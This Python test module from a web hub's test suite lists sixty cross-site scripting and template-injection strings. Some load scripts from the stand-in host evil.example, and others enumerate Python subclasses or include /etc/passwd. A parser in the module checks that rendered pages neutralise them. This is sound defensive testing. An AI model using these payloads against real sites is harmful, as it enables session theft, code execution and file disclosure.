"""Sixty strings that try to get out of a page, and a reader that tells whether one did (T14.2, G28, S24)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from patchbay.views.hidden_characters import escape_hidden_characters, show_hidden_characters

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    '" style="background:url(//evil.example)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/path",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>\u202c\u2028\u2029",
    "<\u0000script>alert(1)</script>".replace("\u0000", "\u00ad"),
)

ELEMENTS = frozenset(
    (
        *("html", "head", "meta", "title", "link", "body", "header", "main", "footer", "nav", "section", "article"),
        *("label", "input", "select", "option", "datalist", "textarea", "mark"),
        *("div", "span", "p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "dl", "dt", "dd", "a", "strong", "pre", "code"),
        *("table", "thead", "tbody", "tr", "th", "td", "details", "summary", "form", "button", "noscript", "script"),
        *("fieldset", "legend"),
        *("svg", "path", "circle", "img", "colgroup", "col", "figure", "figcaption", "line", "rect", "text", "time"),
    )
)
"""What the hub's own templates are made of."""

LINK = re.compile(
    r"/(?!/)|#|\?|http://localhost/|https://modelcontextprotocol\.io$"
    r"|lmstudio://add_mcp\?|goose://extension\?|cursor://anysphere\.cursor-deeplink/mcp/install\?|vscode(-insiders)?:mcp/install\?"
)
"""Where the hub's pages lead: to itself, to the protocol's documentation, and to the clients that can add a server."""


def forms_of(text: str) -> set[str]:
    """How pages may show a string: its hidden characters as they are, by code point, or as JSON escapes."""
    forms = (text, HIDDEN_NOTE.sub("", show_hidden_characters(text)), escape_hidden_characters(text))
    return {" ".join(form.split()) for form in forms}


def is_shown(text: str, page: str) -> bool:
    """Whether the text of a page shows a string in any of its forms."""
    words = " ".join(page.split())
    return any(form in words for form in forms_of(text))


HIDDEN_NOTE = re.compile(r" \(\d+ hidden characters? (is|are) shown by code point\.\)$")
"""The sentence that a page adds to a text with hidden characters."""


class Reader(HTMLParser):
    """Reads a page: its visible text, and every fault in its elements and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._pieces: list[str] = []
        self._within: str | None = None
        self.feed(html)
        self.close()

    @property
    def text(self) -> str:
        return "".join(self._pieces)

    def updatepos(self, i: int, j: int) -> int:
        """Count no lines: a fault names its text, and the counting would take an eighth of the time."""
        return j

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within = tag
        if tag not in ELEMENTS:
            self.faults.append(f"the element {tag}")
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        self._within = None

    def handle_data(self, data: str) -> None:
        if self._within == "script" and data.strip():
            self.faults.append(f"script in the page: {data[:80]}")
        self._pieces.append(data)

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href"):
            self.faults.append(f"{tag} {name}={value[:80]}")
        if name in ("href", "src", "action") and not LINK.match(value):
            self.faults.append(f"{tag} {name}={value[:80]}")
